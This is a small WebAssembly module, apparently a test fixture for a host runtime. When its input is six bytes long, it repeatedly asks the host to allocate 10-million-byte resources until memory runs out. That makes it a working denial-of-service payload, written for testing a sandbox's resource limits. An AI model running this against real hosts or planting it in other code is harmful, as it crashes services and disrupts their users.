;; SPDX-License-Identifier: Apache-2.0
;; attack: makes resources until the host's memory is full
;; call: 38W04 resources
(module
  (import "env" "ws_get_data" (func $get (param i32 i32 i32) (result i32)))
  (import "env" "ws_set_data" (func $set (param i32 i32 i32) (result i32)))
  (memory (export "memory") 160)
  (func (export "alloc") (param i32) (result i32) (i32.const 1024))
  (func (export "start") (param $rid i32) (result i32)
    (local $i i32)
    (drop (call $get (local.get $rid) (i32.const 8) (i32.const 12)))
    ;; Six bytes are the attack.
    (if (i32.ne (i32.load (i32.const 12)) (i32.const 6))
      (then (return (local.get $rid))))
    (loop $again
      (drop (call $set (local.get $i) (i32.const 0) (i32.const 10000000)))
      (local.set $i (i32.add (local.get $i) (i32.const 1)))
      (br $again))
    (i32.const 0)))
